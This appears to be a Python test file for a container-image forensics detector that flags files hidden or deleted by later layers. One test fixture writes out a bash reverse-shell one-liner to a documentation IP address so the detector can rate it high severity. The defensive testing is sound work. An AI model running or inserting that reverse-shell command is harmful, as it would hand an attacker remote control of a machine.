"""Content that later layers hide."""

from __future__ import annotations

import base64

from forensics.detectors.hidden_by_later_layer import DETECTOR
from forensics.examine import Rule
from forensics.model.findings import Category, Severity
from tests.scenes import File, build, debian, dpkg, elf, findings, judge, said

HIDDEN, DELETED = "layers/hidden-content", "layers/deleted-content"
TOOL = File(elf(b"tool"), 0o755)
SCRIPT = File(b"#!/bin/sh\necho\n", 0o755)
KEY = (
    b"-----BEGIN RSA PRIVATE KEY-----\n"
    + base64.b64encode(b"\x30\x82" + bytes(range(250)))
    + b"\n-----END RSA PRIVATE KEY-----"
)


def test_an_unowned_program_that_was_deleted() -> None:
    found = judge(DETECTOR, debian(), {"/opt/x": TOOL}, {"/opt/x": None})
    assert said(found) == [(HIDDEN, "medium", "/opt/x"), (DELETED, "info", None)]
    assert found[0].evidence[0].text == "layer 2 deletes it"
    assert found[1].layer == 2


def test_scripts_count_among_commands() -> None:
    layers = [
        debian(),
        {"/opt/x.sh": SCRIPT, "/usr/bin/x.sh": SCRIPT},
        {"/opt/x.sh": None, "/usr/bin/x.sh": None},
    ]
    assert [one[:2] for one in said(judge(DETECTOR, *layers)) if one[0] == HIDDEN] == [
        (HIDDEN, "low"),
        (HIDDEN, "medium"),
    ]


def test_a_key_that_was_deleted() -> None:
    found = judge(DETECTOR, debian(), {"/root/k": KEY}, {"/root/k": None})
    assert said(found)[0] == (HIDDEN, "medium", "/root/k")


def test_a_signature_in_a_deleted_file() -> None:
    text = b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/99 0>&1\n"
    scene = build([debian(), {"/opt/x.sh": File(text, 0o755)}, {"/opt/x.sh": None}])
    (found,) = [one for one in DETECTOR.detect(scene) if one.rule_id == HIDDEN]
    assert str(found.severity) == "high"
    assert any(one.state == "deleted" and one.severity.rank >= 3 for one in findings(scene))


def test_weak_signatures_do_not_count() -> None:
    scene = build(
        [debian(), {"/opt/x": b"text"}, {"/opt/x": None}],
        rules={"a/b": Rule(id="a/b", title="x", severity=Severity.LOW, category=Category.MINER)},
    )
    assert [one.rule_id for one in DETECTOR.detect(scene)] == [DELETED]


def test_plain_data_that_was_deleted_is_counted_only() -> None:
    layers = [debian(), {f"/var/cache/apt/{n}.deb": b"x" * 100 for n in range(30)}, {"/var/cache/apt": None}]
    found = judge(DETECTOR, *layers)
    assert said(found) == [(DELETED, "info", None)]
    assert found[0].title.endswith("30 files, 3,000 bytes")


def test_an_update_of_a_package_is_no_hiding() -> None:
    new = {
        "/usr/bin/ls": File(elf(b"new"), 0o755),
        **dpkg({"coreutils": {"/usr/bin/ls": elf(b"new")}}, version="2"),
    }
    assert [one for one in said(judge(DETECTOR, debian(), new)) if one[0] == HIDDEN] == []


def test_an_altered_program_that_was_put_right_again() -> None:
    layers = [debian(), {"/usr/bin/ls": File(elf(b"evil"), 0o755)}, {"/usr/bin/ls": File(elf(b"ls"), 0o755)}]
    assert said(judge(DETECTOR, *layers)) == [(HIDDEN, "high", "/usr/bin/ls")]


def test_a_newer_build_of_the_same_program_is_context() -> None:
    layers = [debian(), {"/opt/x": TOOL}, {"/opt/x": File(elf(b"new"), 0o755)}]
    assert said(judge(DETECTOR, *layers)) == [(HIDDEN, "info", "/opt/x")]


def test_without_a_database_programs_are_not_suspected() -> None:
    assert said(judge(DETECTOR, {"/x": TOOL}, {"/x": None})) == [(DELETED, "info", None)]


def test_duplicates_within_a_layer_are_told_elsewhere() -> None:
    assert judge(DETECTOR, debian(), [("/opt/x", TOOL), ("/opt/x", b"data")]) == []
